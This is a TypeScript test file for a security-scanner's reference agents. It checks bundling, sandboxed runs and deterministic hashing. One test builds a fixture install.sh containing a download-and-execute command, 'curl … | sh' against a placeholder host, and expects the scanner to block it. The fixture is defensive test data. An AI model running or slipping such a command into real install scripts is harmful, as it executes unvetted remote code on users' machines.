import { existsSync } from 'node:fs';
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { AgentBundle, agentHash, canonicalJson, type Track } from '@vigil/core';
import { materializeBundle, runAgent } from '@vigil/sandbox';
import { describe, expect, it } from 'vitest';
import { buildReferenceBundles, bundleAgentEntry } from '../scripts/build-bundles.mjs';
import { referenceAgent, referenceBundlePath } from './reference-agent.js';
import { dirWith, tempDir } from '../../sandbox/src/test-support/temp-dirs.js';

const PACKAGE_DIR = fileURLToPath(new URL('..', import.meta.url));
const RUN_REFERENCE_AGENT = join(PACKAGE_DIR, 'src/reference/common/run-reference-agent.ts');
const REFERENCE_FINDING = join(PACKAGE_DIR, 'src/reference/common/reference-finding.ts');
const SCORE = join(PACKAGE_DIR, 'src/reference/common/score-findings.ts');

/**
 * An agent-main like the reference agents' (the shared main, an analyzer in a module of its own,
 * core's schemas through the shared code), flagging every file that says `curl … | sh`.
 */
async function throwawayAgent(): Promise<string> {
  return dirWith({
    'analyze-throwaway.ts': `
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { referenceFinding } from ${JSON.stringify(REFERENCE_FINDING)};
import { resultFromFindings } from ${JSON.stringify(SCORE)};
export async function analyzeThrowaway(input: { dir: string }) {
  const findings = [];
  for (const name of (await readdir(input.dir)).sort()) {
    const text = await readFile(join(input.dir, name), 'utf8');
    const at = text.indexOf('| sh');
    if (at >= 0) findings.push(referenceFinding({ category: 'install_script', severity: 'CRIT', title: 'pipes a download into a shell', file: name, line: text.slice(0, at).split('\\n').length, evidence: 'curl | sh' }));
  }
  return resultFromFindings(findings);
}
`,
    'agent-main.ts': `import { runReferenceAgent } from ${JSON.stringify(RUN_REFERENCE_AGENT)};\nimport { analyzeThrowaway } from './analyze-throwaway.js';\nawait runReferenceAgent(analyzeThrowaway);\n`,
  });
}

describe('bundleAgentEntry', () => {
  it('builds one self-contained agent.mjs that runs in the sandbox and reads its input', async () => {
    const entryDir = await throwawayAgent();
    const bundle = await bundleAgentEntry(join(entryDir, 'agent-main.ts'), { workingDir: PACKAGE_DIR });
    expect(AgentBundle.parse(bundle)).toEqual(bundle);
    expect(bundle.entrypoint).toBe('agent.mjs');
    expect(bundle.files.map((file) => file.path)).toEqual(['agent.mjs']);
    const code = Buffer.from(bundle.files[0]!.content_base64, 'base64').toString('utf8');
    // Everything inlined: no import of a package, only Node built-ins.
    const imports = [...code.matchAll(/^import .* from ["']([^"']+)["'];?$/gm)].map((m) => m[1]);
    expect(imports.every((name) => name!.startsWith('node:') || !name!.includes('/') || /^(fs|path|os|url|module|crypto)/.test(name!))).toBe(true);
    expect(code).not.toMatch(/from ["']@vigil\/core["']/);

    const bundleDir = await materializeBundle(bundle, join(await tempDir(), 'bundle'));
    const artifact = await dirWith({ 'install.sh': '#!/bin/sh\necho hi\ncurl -s https://x.example/i | sh\n', 'README.md': 'hello\n' });
    const outcome = await runAgent({ bundleDir, entrypoint: bundle.entrypoint, artifactDir: artifact, metadata: { track: 'packages' }, budget: { wallMs: 30_000 } });
    expect(outcome.ok, outcome.ok ? '' : `${outcome.failureReason}: ${outcome.detail} ${outcome.stderr}`).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.result.verdict).toBe('BLOCK');
    expect(outcome.result.findings).toEqual([expect.objectContaining({ category: 'install_script', severity: 'CRIT', file: 'install.sh', line: 3 })]);
  });

  it('gives the same bytes, and so the same agent hash, for the same sources', async () => {
    const entry = join(await throwawayAgent(), 'agent-main.ts');
    const first = await bundleAgentEntry(entry, { workingDir: PACKAGE_DIR });
    const second = await bundleAgentEntry(entry, { workingDir: PACKAGE_DIR });
    expect(canonicalJson(second)).toBe(canonicalJson(first));
    expect(agentHash(second)).toBe(agentHash(first));
  });
});

describe('buildReferenceBundles', () => {
  it('bundles each track directory that has an agent-main.ts, under the API track name', async () => {
    const pkg = await dirWith({
      'src/reference/mcp-servers/agent-main.ts': '// source\n',
      'dist/reference/mcp-servers/agent-main.js': "process.stdout.write(JSON.stringify({ verdict: 'ALLOW', risk_score: 0, findings: [] }));\n",
      // Compiled code left behind without a source is not an agent.
      'dist/reference/skills/agent-main.js': 'stale\n',
      'src/reference/common/analyzer.ts': '',
      'dist/bundles/old.bundle.json': '{}',
    });
    const written = await buildReferenceBundles({ packageDir: pkg });
    expect(written.map((entry) => entry.track)).toEqual(['mcp_servers']);
    expect(await readdir(join(pkg, 'dist/bundles'))).toEqual(['mcp_servers.bundle.json']);
    const text = await readFile(join(pkg, 'dist/bundles/mcp_servers.bundle.json'), 'utf8');
    const bundle = AgentBundle.parse(JSON.parse(text));
    // Stored in normalized canonical form: the file's bytes are what the server will hash.
    expect(text).toBe(canonicalJson(bundle));
    expect(written[0]!.agentHash).toBe(agentHash(bundle));
  });

  it('refuses a source whose compiled file is missing', async () => {
    const pkg = await dirWith({ 'src/reference/repositories/agent-main.ts': '// source\n' });
    await expect(buildReferenceBundles({ packageDir: pkg })).rejects.toThrow('dist/reference/repositories/agent-main.js is missing: run tsc -b first');
  });
});

describe('referenceAgent', () => {
  it('reads the built bundle of a track, or names the track whose bundle is missing', async () => {
    for (const track of ['packages', 'skills', 'mcp_servers', 'repositories'] as Track[]) {
      if (existsSync(referenceBundlePath(track))) {
        const agent = await referenceAgent(track);
        expect(agent.name).toBe(`vigil-reference-${track}`);
        expect(agent.agent_hash).toBe(agentHash(agent.bundle));
        expect(agent.bundle.entrypoint).toBe('agent.mjs');
      } else {
        console.warn(`[reference] no built bundle for ${track} (${referenceBundlePath(track)})`);
        await expect(referenceAgent(track)).rejects.toThrow(`no reference agent bundle for track ${track}`);
      }
    }
  });
});
